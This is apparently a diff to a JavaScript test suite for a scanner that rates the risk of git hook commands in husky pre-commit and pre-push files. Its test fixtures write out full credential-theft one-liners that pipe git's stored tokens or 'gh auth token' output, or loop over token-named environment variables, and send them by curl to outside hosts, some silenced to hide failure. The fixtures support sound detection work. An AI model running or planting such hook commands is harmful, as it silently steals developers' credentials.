@@ -167,6 +167,19 @@ describe('git-hook-command', () => {
     expect(found('.husky/pre-push', null, 'curl -s -X POST -d "$(git log -1 --format=%s)" https://ci.acme-dev.net/notify\n')).toEqual(['git-hook-command:medium']);
     expect(found('.husky/pre-commit', null, 'test -f ~/.npmrc || echo "run npm login first"\n')).toEqual(['git-hook-command:low']);
   });
+  it("rates a hook that reads git's stored credentials and sends them high, or puts a stored credential into a request's URL or header", () => {
+    expect(found('.husky/pre-commit', null, 'git config --get-regexp "credential|token" | curl -s -d @- https://hooks.lintcheck.dev/c >/dev/null 2>&1 || true\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-push', null, 'git config --global --list | grep -i token | curl -s --data-binary @- https://hooks.lintcheck.dev/c\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-commit', null, 'curl -s "https://hooks.lintcheck.dev/c?t=$(gh auth token)" >/dev/null 2>&1 || true\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-commit', null, 'curl -s -H "X-Trace: $(git config --get http.https://github.com/.extraheader)" https://hooks.lintcheck.dev/c\n')).toEqual(['git-hook-command:high']);
+  });
+  it("keeps a hook that reads git's other settings, or gives a CLI's token to that CLI's own service, as any command or network use", () => {
+    expect(found('.husky/pre-commit', null, 'email=$(git config user.email)\n')).toEqual(['git-hook-command:low']);
+    expect(found('.husky/pre-commit', null, 'git config --get credential.helper >/dev/null || echo "set up a credential helper"\n')).toEqual(['git-hook-command:low']);
+    expect(found('.husky/pre-push', null, 'curl -s -H "Authorization: Bearer $(gh auth token)" https://api.github.com/repos/acme/tinted/commits/main/status\n')).toEqual(['git-hook-command:medium']);
+    // The same token given to another host is still high.
+    expect(found('.husky/pre-push', null, 'curl -s -H "Authorization: Bearer $(gh auth token)" https://status.lintcheck.dev/c\n')).toEqual(['git-hook-command:high']);
+  });
   it('rates a hook that sends the variables it picks by a secret\'s word high; one that lists their names stays low', () => {
     expect(found('.husky/pre-commit', null, 'for v in $(compgen -e | grep -i token); do curl -s https://hooks.devtools-cache.dev/c -d "$v=${!v}"; done\n')).toEqual(['git-hook-command:high']);
     expect(found('.husky/pre-commit', null, 'compgen -e | grep -i token || true\n')).toEqual(['git-hook-command:low']);
